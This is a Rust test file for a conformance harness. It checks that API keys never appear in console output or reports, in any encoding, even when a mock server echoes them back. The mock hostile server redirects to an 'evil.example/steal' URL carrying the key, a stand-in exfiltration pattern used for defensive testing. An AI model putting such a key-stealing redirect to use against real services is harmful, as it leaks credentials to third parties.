//! The key never appears in any output, in any of the forms a server can echo it in: every
//! command that prints (`run`, `certify`, `doctor`), against a correct server and against one
//! that echoes the key back in every encoding real servers produce.

use axum::Router;
use axum::http::HeaderMap;
use share_conformance_reference::ServerOptions;

use crate::support::*;

/// Percent-encoding of every byte that is not unreserved, in lower-case hex.
fn percent_encoded_lower(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            other => format!("%{other:02x}"),
        })
        .collect()
}

/// Percent-encoding in upper-case hex.
fn percent_encoded_upper(text: &str) -> String {
    percent_encoded_lower(text)
        .split('%')
        .enumerate()
        .map(|(i, part)| {
            if i == 0 {
                part.to_owned()
            } else {
                format!("%{}{}", part[..2].to_uppercase(), &part[2..])
            }
        })
        .collect()
}

fn base64_with(bytes: &[u8], alphabet: &[u8; 64], pad: bool) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(alphabet[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else if pad {
                out.push('=');
            }
        }
    }
    out
}

const STANDARD: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const URL_SAFE: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// Every form of `key` a server can echo: as it is, percent-encoded in either case, escaped
/// in JSON (`\/`, `\u002B`, `\u002b`), with `+` read as a space, in base64 and base64url,
/// alone and inside a longer base64 value at each of the three byte offsets, and its first
/// and last 24 characters.
fn forms(key: &str) -> Vec<(&'static str, String)> {
    let within = |before: &str, after: &str| format!("{before}{key}{after}").into_bytes();
    vec![
        ("plain", key.to_owned()),
        ("percent-encoded", percent_encoded_upper(key)),
        ("lower-case percent-encoding", percent_encoded_lower(key)),
        ("JSON \\/", key.replace('/', "\\/")),
        (
            "JSON \\u002B",
            key.replace('+', "\\u002B").replace('/', "\\/"),
        ),
        ("JSON \\u002b", key.replace('+', "\\u002b")),
        ("+ read as a space", key.replace('+', " ")),
        ("base64", base64_with(key.as_bytes(), STANDARD, true)),
        ("base64url", base64_with(key.as_bytes(), URL_SAFE, false)),
        (
            "base64 at offset 0 of a longer value",
            base64_with(&within("", "\n"), STANDARD, true),
        ),
        (
            "base64 at offset 1 of a longer value",
            base64_with(&within("x", "!"), STANDARD, true),
        ),
        (
            "base64 at offset 2 of a longer value",
            base64_with(&within("k:", ""), STANDARD, true),
        ),
        (
            "base64url inside a JSON value",
            base64_with(&within("{\"key\":\"", "\"}"), URL_SAFE, false),
        ),
        (
            "its first 24 characters",
            key.get(..24).unwrap_or(key).to_owned(),
        ),
        (
            "its last 24 characters",
            key.get(key.len().saturating_sub(24)..)
                .unwrap_or(key)
                .to_owned(),
        ),
    ]
}

/// What of `key` must never show, however it is cut: every 8 letters and digits in a row that
/// look random (as the harness's own scan judges them), and every 12 symbols of its base64 at
/// each byte offset.
fn windows(key: &str) -> Vec<String> {
    // Six different characters or more, of two classes or more (upper, lower, digits).
    let random = |w: &str| {
        let distinct: std::collections::BTreeSet<char> = w.chars().collect();
        let classes = [
            w.chars().any(|c| c.is_ascii_uppercase()),
            w.chars().any(|c| c.is_ascii_lowercase()),
            w.chars().any(|c| c.is_ascii_digit()),
        ];
        distinct.len() >= 6 && classes.iter().filter(|c| **c).count() >= 2
    };
    let mut out: Vec<String> = key
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|run| run.len() >= 8)
        .flat_map(|run| (0..=run.len() - 8).map(move |at| run[at..at + 8].to_owned()))
        .filter(|w| random(w))
        .collect();
    for offset in 0..3 {
        let mut bytes = vec![b'x'; offset];
        bytes.extend_from_slice(key.as_bytes());
        let encoded = base64_with(&bytes, STANDARD, false);
        // The symbols of the key's own bits: past the ones that mix in the prefix.
        let inner = &encoded[[0, 2, 3][offset]..encoded.len() - 1];
        out.extend(
            (0..=inner.len() - 12)
                .map(|at| inner[at..at + 12].to_owned())
                .filter(|w| w.chars().all(|c| c.is_ascii_alphanumeric())),
        );
    }
    out
}

/// A body that echoes `key` in every form, written by hand so the escapes stay as servers
/// write them.
fn echo_body(key: &str) -> String {
    let fields: Vec<String> = forms(key)
        .iter()
        .map(|(name, form)| {
            // The form goes in as JSON text: a backslash already in it is an escape.
            let text = if form.contains('\\') {
                form.clone()
            } else {
                form.replace('"', "\\\"")
            };
            format!("\"{name}\":\"{text}\"")
        })
        .collect();
    format!("{{{}}}", fields.join(","))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_api_key_never_appears_in_any_output_in_any_form() {
    // `+` and `/` make the forms differ; the random part keeps it unique to this run.
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64;
    let random = |seed: u64| -> String {
        const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        let mut n = seed ^ (u64::from(std::process::id()) << 32) | 1;
        (0..18)
            .map(|_| {
                n ^= n << 13;
                n ^= n >> 7;
                n ^= n << 17;
                ALNUM[(n % 62) as usize] as char
            })
            .collect()
    };
    let suffix = random(nanos);
    let canary = format!("ak_Canary+{suffix}/Key+{suffix}");
    // The sharer's key, which provisioning sends: as secret as the recipient's.
    let sharer_suffix = random(nanos.rotate_left(17));
    let sharer = format!("ak_Sharer+{sharer_suffix}/Key+{sharer_suffix}");
    let all_forms: Vec<(String, String)> = forms(&canary)
        .into_iter()
        .map(|(name, form)| (format!("recipient's key, {name}"), form))
        .chain(
            forms(&sharer)
                .into_iter()
                .map(|(name, form)| (format!("sharer's key, {name}"), form)),
        )
        .collect();
    let all_windows: Vec<String> = windows(&canary)
        .into_iter()
        .chain(windows(&sharer))
        .collect();
    // Correct servers that know the canary key: one for the run, one for the certification
    // (each provisions every state, and the run deletes the disposable track).
    let canary_server = || {
        reference(ServerOptions {
            recipient_key: Some(share_conformance_reference::store::Key::new(canary.clone())),
            sharer_key: Some(share_conformance_reference::store::Key::new(sharer.clone())),
            ..Default::default()
        })
    };
    let server = canary_server().await;
    let certified = canary_server().await;
    let mut fixtures = fixtures_of(&server);
    fixtures.api_key = None;
    let dir = ScratchDir::new("canary");
    let fixtures_path = dir.fixtures(&fixtures);
    let mut certified_fixtures = fixtures_of(&certified);
    certified_fixtures.api_key = None;
    let certified_fixtures_path = dir.join("certified-fixtures.toml");
    std::fs::write(&certified_fixtures_path, certified_fixtures.to_toml()).unwrap();
    let certified_fixtures_path = certified_fixtures_path.display().to_string();
    // A hostile server that echoes the key it receives in every form: in its body, in
    // headers, and in a redirect's Location.
    let echo = spawn(Router::new().fallback(|headers: HeaderMap| async move {
        let key = headers
            .get("x-api-key")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("none")
            .to_owned();
        let forms = forms(&key);
        let mut response = axum::http::Response::builder()
            .status(axum::http::StatusCode::TEMPORARY_REDIRECT)
            .header("content-type", "application/json")
            .header(
                "location",
                format!(
                    "https://evil.example/steal?k={}",
                    percent_encoded_lower(&key)
                ),
            );
        for (i, (_, form)) in forms.iter().enumerate() {
            if let Ok(value) = axum::http::HeaderValue::from_str(form) {
                response = response.header(format!("x-echo-{i}"), value);
            }
        }
        response
            .body(axum::body::Body::from(echo_body(&key)))
            .unwrap()
    }))
    .await;

    let mut cases = Vec::new();
    let echo_target = (echo.clone(), fixtures_path.clone(), vec![]);
    for (
        name,
        url,
        (certify_url, certify_fixtures, certify_provisioning),
        provisioning,
        expected_code,
    ) in [
        (
            "correct",
            server.base_url(),
            (
                certified.base_url(),
                certified_fixtures_path.clone(),
                provision_args(&certified),
            ),
            provision_args(&server),
            0,
        ),
        ("echoing", echo.clone(), echo_target, vec![], 1),
    ] {
        let files = [
            "junit.xml",
            "cucumber.json",
            "report.md",
            "report.md.json",
            "page.html",
        ]
        .map(|f| dir.arg(&format!("{name}-run-{f}")));
        let mut run = vec![
            "run",
            "--base-url",
            &url,
            "--fixtures",
            &fixtures_path,
            "--api-key",
            &canary,
            "-vv",
            "--junit",
            &files[0],
            "--cucumber-json",
            &files[1],
            "--report",
            &files[2],
            "--html",
            &files[4],
        ];
        run.extend(provisioning.iter().map(String::as_str));
        let certificate = dir.arg(&format!("{name}-certificate.md"));
        let certificate_html = dir.arg(&format!("{name}-certificate.html"));
        let mut certify = vec![
            "certify",
            "--base-url",
            &certify_url,
            "--fixtures",
            &certify_fixtures,
            "--report",
            &certificate,
            "--html",
            &certificate_html,
        ];
        certify.extend(certify_provisioning.iter().map(String::as_str));
        let doctor = ["doctor", "--base-url", &url, "--fixtures", &fixtures_path];
        let certificate_json = format!("{certificate}.json");
        let run_files: Vec<String> = files.to_vec();
        cases.push((
            format!("{name} run"),
            run.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
            vec![],
            Some(expected_code),
            run_files,
        ));
        cases.push((
            format!("{name} certify (key from the environment)"),
            certify.iter().map(|s| s.to_string()).collect(),
            vec![("FREDDY_API_KEY", canary.clone())],
            Some(expected_code),
            vec![certificate, certificate_json.clone(), certificate_html],
        ));
        // Re-judged from its recording: authentic, CERTIFIED or not as the certification was.
        cases.push((
            format!("{name} verify-certificate"),
            vec!["verify-certificate".to_owned(), certificate_json.clone()],
            vec![],
            Some(expected_code),
            Vec::new(),
        ));
        // The recording judged again, offline: what it prints and writes is masked too.
        let regraded_html = dir.arg(&format!("{name}-regraded.html"));
        cases.push((
            format!("{name} regrade"),
            vec![
                "regrade".to_owned(),
                files[3].clone(),
                "--html".to_owned(),
                regraded_html.clone(),
            ],
            vec![],
            Some(expected_code),
            vec![regraded_html],
        ));
        cases.push((
            format!("{name} doctor"),
            doctor.iter().map(|s| s.to_string()).collect(),
            vec![("FREDDY_API_KEY", canary.clone())],
            if expected_code == 0 { Some(0) } else { None },
            Vec::new(),
        ));
    }
    // Provisioning against the echoing server: the sharer's key comes back in every form, in
    // answers the harness reports when provisioning fails.
    let provision_report = dir.arg("echoing-provisioning-report.md");
    cases.push((
        "echoing provisioning".to_owned(),
        [
            "run",
            "--base-url",
            &echo,
            "--fixtures",
            &fixtures_path,
            "--api-key",
            &canary,
            "--provision",
            "--sharer-api-key",
            &sharer,
            "--organization",
            "morg_1",
            "--track",
            "mtrack_1",
            "--disposable-track",
            "mtrack_2",
            "--collection",
            "mcoll_1",
            "-vv",
            "--report",
            &provision_report,
        ]
        .map(String::from)
        .to_vec(),
        vec![],
        None,
        Vec::new(),
    ));
    for (case, args, env, expected_code, files) in cases {
        let output = tokio::task::spawn_blocking(move || {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
            harness_env(&args, &env)
        })
        .await
        .unwrap();
        let (stdout, stderr) = text(&output);
        if let Some(code) = expected_code {
            assert_eq!(
                output.status.code(),
                Some(code),
                "{case}:\n{stdout}\n{stderr}"
            );
        } else {
            assert!(
                matches!(output.status.code(), Some(0..=3)),
                "{case}:\n{stdout}\n{stderr}"
            );
        }
        assert!(!stderr.contains("panicked"), "{case}: {stderr}");
        let mut outputs = vec![
            ("stdout".to_owned(), stdout.clone()),
            ("stderr".to_owned(), stderr.clone()),
        ];
        for file in &files {
            let content = std::fs::read_to_string(file).unwrap_or_else(|_| {
                panic!("{case}: {file} is missing: the leak scan removes a file it finds a key in\n{stdout}")
            });
            outputs.push((file.clone(), content));
        }
        for (place, content) in &outputs {
            for (form_name, form) in &all_forms {
                assert!(
                    !content.contains(form.as_str()),
                    "{case}: the key ({form_name}: {form}) is in {place}:\n{content}"
                );
            }
            for window in &all_windows {
                assert!(
                    !content.contains(window.as_str()),
                    "{case}: part of a key ({window}) is in {place}:\n{content}"
                );
            }
        }
        assert!(
            !stdout.contains("LEAK"),
            "{case}: the leak scan found a key:\n{stdout}"
        );
        if case == "echoing run" {
            // Every form reached an output the scan reads (the recording keeps whole bodies),
            // and came out masked there.
            let recording = &outputs
                .iter()
                .find(|(place, _)| place.ends_with("report.md.json"))
                .expect("the JSON report")
                .1;
            // (A name with a backslash is an escape in the echoed JSON: its text differs.)
            for (name, _) in forms(&canary)
                .into_iter()
                .filter(|(n, _)| !n.contains('\\'))
            {
                // The value holds the mask (the base64 of a longer value keeps the symbols of
                // the bytes around the key).
                let field = format!("\\\"{name}\\\":\\\"");
                // (Answers to requests without the key echo other values: one will do.)
                let masked = recording.match_indices(&field).any(|(at, _)| {
                    let value = &recording[at + field.len()..];
                    value
                        .split("\\\"")
                        .next()
                        .is_some_and(|v| v.contains("***"))
                });
                assert!(
                    masked,
                    "{case}: the echo of {name} is not in the recording, masked:\n{recording}"
                );
            }
        }
        if case.ends_with("verify-certificate") {
            assert!(
                stdout.contains("✓ its verdicts follow from its"),
                "{case}: the certificate was re-judged, and its verdicts agree:\n{stdout}"
            );
        }
        if case == "echoing provisioning" {
            assert!(
                stderr.contains("provisioning the live share failed")
                    && stderr.contains("\"plain\":\"***\""),
                "{case}: the sharer's key came back, masked: {stderr}"
            );
        }
        if case == "echoing run" {
            assert!(
                stdout.contains("reproduce: ")
                    && stdout.contains("&& curl ")
                    && stdout.contains("\"X-API-Key: $FREDDY_API_KEY\""),
                "every failure shows its curl commands, the key as a variable:\n{stdout}"
            );
            assert!(
                stdout.contains("redirect to https://evil.example/steal?k=***"),
                "{stdout}"
            );
            assert!(
                stdout.contains("state at the failure:"),
                "-vv shows the World: {stdout}"
            );
            assert!(stdout.contains("the target echoed a key back"), "{stdout}");
            assert!(
                stdout.contains("\"plain\":\"***\""),
                "the echo is masked whole:\n{stdout}"
            );
        }
    }
}

/// A key echoed in another case (here upper-cased, which neither the key nor its case swapped
/// is in any eight characters in a row) is still masked: any eight of its letters and digits
/// in a row, in any case, are. Nothing of it reaches the console or a report, and the leak
/// scan, which reads them as written, finds nothing to fail the run on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_echoed_in_another_case_is_masked_too() {
    // Upper and lower case alternate, so that no eight in a row of the key, or of the key with
    // its case swapped, survive upper-casing as they are.
    let key = "ak_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S";
    let echo = spawn(Router::new().fallback(|headers: HeaderMap| async move {
        let sent = headers
            .get("x-api-key")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("none")
            .to_uppercase();
        (
            [("content-type", "text/html")],
            format!("<p>you sent {sent}</p>"),
        )
    }))
    .await;
    let dir = ScratchDir::new("unknown-encoding");
    let mut fixtures = share_conformance::Fixtures::default();
    for state in share_conformance::fixtures::ShareState::ALL {
        fixtures.tokens.set(state, Some(format!("shr_{state}")));
    }
    let fixtures = dir.fixtures(&fixtures);
    // JUnit holds each failure's message, and with it the response's excerpt.
    let junit = dir.arg("junit.xml");
    let args: Vec<String> = [
        "run",
        "--base-url",
        &echo,
        "--fixtures",
        &fixtures,
        "--api-key",
        key,
        "--junit",
        &junit,
    ]
    .map(String::from)
    .to_vec();
    let output = harness_async(args).await;
    let (stdout, stderr) = text(&output);
    assert_eq!(output.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(stdout.contains("<p>you sent AK_***"), "{stdout}");
    assert!(!stdout.contains("LEAK"), "{stdout}");
    let junit = std::fs::read_to_string(dir.join("junit.xml")).expect("the report is kept");
    let upper = key.to_uppercase();
    for output in [&stdout, &stderr, &junit] {
        for at in 3..=upper.len() - 8 {
            let window = &upper[at..at + 8];
            assert!(
                !output.to_uppercase().contains(window),
                "{window} of the key is in an output:\n{output}"
            );
        }
    }
}
